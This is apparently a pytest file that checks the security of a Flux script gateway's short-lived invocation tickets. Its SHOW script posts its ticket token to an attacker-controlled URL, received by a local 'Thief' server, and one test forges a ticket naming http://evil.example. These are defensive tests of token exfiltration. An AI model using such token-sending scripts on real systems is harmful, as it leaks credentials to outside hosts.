"""Chains behind the gateway carry no secrets: what a ticket opens, and what it does not."""

from __future__ import annotations

import threading
from collections.abc import Iterator
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path
from typing import Any

import httpx
import pytest
from support.command import fluxcall

from fluxcall.demo.influxd import Influxd
from fluxcall.gateway.limits import MAX_DEPTH
from fluxcall.gateway.server import run_gateway

TICKET = 'record.get(r: params, key: "_fluxcall", default: {host: "", token: ""})'
INNER = 'import "array"\narray.from(rows: [{v: params.n * 2}])'
OUTER = f"""
import "array"
import "json"
import "experimental/record"
import "experimental/influxdb"

ticket = {TICKET}
answer = influxdb.api(
    method: "post",
    path: "/api/v2/scripts/" + params.inner + "/invoke",
    host: ticket.host,
    token: ticket.token,
    body: json.encode(v: {{params: {{n: 21}}}}),
)
array.from(rows: [{{status: answer.statusCode, body: string(v: answer.body)}}])
"""
SHOW = f"""
import "array"
import "experimental/record"
import "experimental/http/requests"
ticket = {TICKET}
kept = requests.do(method: "POST", url: params.url, body: bytes(v: ticket.token))
array.from(rows: [{{status: kept.statusCode, host: ticket.host}}])
"""
"""Sends its ticket away, as a script's author could."""


def create(api: httpx.Client, name: str, script: str) -> str:
    body = {"name": name, "description": "", "language": "flux", "script": script}
    answer = api.post("/scripts", json=body)
    assert answer.status_code == 201, answer.text
    return str(answer.json()["id"])


def invoke(api: httpx.Client, script_id: str, **params: Any) -> httpx.Response:
    return api.post(f"/scripts/{script_id}/invoke", json={"params": params})


class Thief:
    """A server that a script sends its ticket to; it answers when it is told to."""

    def __init__(self) -> None:
        self.ticket = ""
        self.stolen, self.release = threading.Event(), threading.Event()
        thief = self

        class Handler(BaseHTTPRequestHandler):
            def do_POST(self) -> None:
                length = int(self.headers["Content-Length"])
                thief.ticket = self.rfile.read(length).decode()
                thief.stolen.set()
                thief.release.wait(60)
                self.send_response(200)
                self.send_header("Content-Length", "0")
                self.end_headers()

            def log_message(self, *args: object) -> None:
                pass

        self.server = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
        self.url = f"http://127.0.0.1:{self.server.server_port}"


@pytest.fixture
def thief() -> Iterator[Thief]:
    thief = Thief()
    thread = threading.Thread(target=thief.server.serve_forever)
    thread.start()
    yield thief
    thief.release.set()
    thief.server.shutdown()
    thief.server.server_close()
    thread.join()


@pytest.fixture
def stolen(
    api: httpx.Client, thief: Thief, gateway: str
) -> Iterator[tuple[httpx.Client, Thief, threading.Thread]]:
    """A client with a ticket whose invocation still runs."""
    script = create(api, "show", SHOW)
    running = threading.Thread(
        target=invoke, args=(api, script), kwargs={"url": thief.url}
    )
    running.start()
    assert thief.stolen.wait(30)
    header = {"Authorization": f"Token {thief.ticket}"}
    with httpx.Client(base_url=f"{gateway}/api/v2", headers=header) as client:
        yield client, thief, running
    thief.release.set()
    running.join()


def test_a_script_invokes_another_without_host_and_token(api: httpx.Client) -> None:
    inner = create(api, "inner", INNER)
    outer = create(api, "outer", OUTER)
    answer = invoke(api, outer, inner=inner)
    assert ",result,table,v" in answer.text
    assert ",_result,0,42" in answer.text
    assert ",200" in answer.text
    params = api.get(f"/scripts/{outer}/params").json()
    assert params == {"params": {"inner": "string"}}


def test_the_documented_chain_needs_no_host_and_token(
    tmp_path: Path, api: httpx.Client, gateway: str, influxd: Influxd
) -> None:
    flux = tmp_path / "flux"
    flux.mkdir()
    (flux / "doubled.flux").write_text(INNER)
    (flux / "summary.flux").write_text(
        'import "fluxcall/scripts"\nscripts.doubled(n: params.n) |> map(fn: (r) =>'
        " ({v: string(v: r.v)}))"
    )
    environ = {"INFLUX_HOST": gateway, "INFLUX_TOKEN": influxd.token}
    code, said = fluxcall(tmp_path, "push", "--scripts", "flux", "--yes", **environ)
    assert code == 0, said
    (summary,) = api.get("/scripts", params={"name": "summary"}).json()["scripts"]
    assert invoke(api, summary["id"], n=4).text.endswith(",_result,0,8\r\n\r\n")
    assert influxd.token not in summary["script"]


def test_a_caller_cannot_bring_a_ticket_of_its_own(api: httpx.Client) -> None:
    outer = create(api, "outer", OUTER)
    forged = {"host": "http://evil.example", "token": "x"}
    answer = invoke(api, outer, inner="x", _fluxcall=forged)
    assert answer.status_code == 400
    assert '"_fluxcall" is reserved' in answer.json()["message"]


def test_a_ticket_finds_and_invokes_scripts_and_nothing_else(
    api: httpx.Client,
    stolen: tuple[httpx.Client, Thief, threading.Thread],
    influxd: Influxd,
) -> None:
    ticket, thief, _ = stolen
    assert influxd.token not in thief.ticket
    inner = create(api, "inner", INNER)
    for path in ("/scripts", f"/scripts/{inner}", f"/scripts/{inner}/params"):
        assert ticket.get(path).status_code == 200, path
    assert invoke(ticket, inner, n=1).status_code == 200
    body = {"name": "x", "description": "", "language": "flux", "script": "x = 1"}
    own = str(api.base_url.join("/fluxcall/api"))
    for method, path, content in (
        ("POST", "/scripts", body),
        ("PATCH", f"/scripts/{inner}", {"name": "y"}),
        ("DELETE", f"/scripts/{inner}", None),
        ("POST", "/functions/trigger", {"script": "x = 1", "language": "flux"}),
        ("POST", f"{own}/observe", {"script": "x = 1", "language": "flux"}),
        ("POST", f"{own}/explain", {"name": "n", "script": "x = 1"}),
        ("GET", "/buckets", None),
        ("GET", "/me", None),
        ("GET", "/authorizations", None),
        ("POST", "/query", {"query": "buckets()"}),
    ):
        answer = ticket.request(method, path, json=content)
        assert answer.status_code == 401, (method, path)
    assert api.get(f"/scripts/{inner}").status_code == 200


def test_a_ticket_ends_with_its_invocation(
    stolen: tuple[httpx.Client, Thief, threading.Thread],
) -> None:
    ticket, thief, running = stolen
    assert ticket.get("/scripts").status_code == 200
    thief.release.set()
    running.join()
    assert ticket.get("/scripts").status_code == 401


def test_a_ticket_is_useless_at_another_gateway(
    stolen: tuple[httpx.Client, Thief, threading.Thread],
    influxd: Influxd,
    tmp_path: Path,
) -> None:
    _, thief, _ = stolen
    header = {"Authorization": f"Token {thief.ticket}"}
    with run_gateway(engine_url=influxd.url, store=tmp_path / "scripts.sqlite") as url:
        assert httpx.get(f"{url}/api/v2/scripts", headers=header).status_code == 401
    assert httpx.get(f"{influxd.url}/api/v2/buckets", headers=header).status_code == 401


def test_a_ticket_sees_one_organization(
    api: httpx.Client, thief: Thief, gateway: str, influxd: Influxd
) -> None:
    """The operator sees two; a ticket of its invocation in one sees that one."""
    other = api.post("/orgs", json={"name": "of others"}).json()["id"]
    try:
        body = {"description": "", "language": "flux"}
        ours = {**body, "name": "show", "script": SHOW, "orgID": influxd.org_id}
        theirs = {**body, "name": "theirs", "script": "x = 1", "orgID": other}
        show = api.post("/scripts", json=ours).json()["id"]
        hidden = api.post("/scripts", json=theirs).json()["id"]
        running = threading.Thread(
            target=invoke, args=(api, show), kwargs={"url": thief.url}
        )
        running.start()
        assert thief.stolen.wait(30)
        header = {"Authorization": f"Token {thief.ticket}"}
        with httpx.Client(base_url=f"{gateway}/api/v2", headers=header) as ticket:
            listed = ticket.get("/scripts").json()["scripts"]
            assert [script["id"] for script in listed] == [show]
            assert ticket.get(f"/scripts/{hidden}").status_code == 404
            assert ticket.get("/scripts", params={"orgID": other}).status_code == 404
        thief.release.set()
        running.join()
    finally:
        api.delete(f"/orgs/{other}")


def test_scripts_that_invoke_themselves_end(api: httpx.Client) -> None:
    script = create(api, "endless", "x = 1")
    text = OUTER.replace("{params: {n: 21}}", "{params: {inner: params.inner}}")
    api.patch(f"/scripts/{script}", json={"script": text})
    answer = invoke(api, script, inner=script)
    assert f"more than {MAX_DEPTH} deep" in answer.text
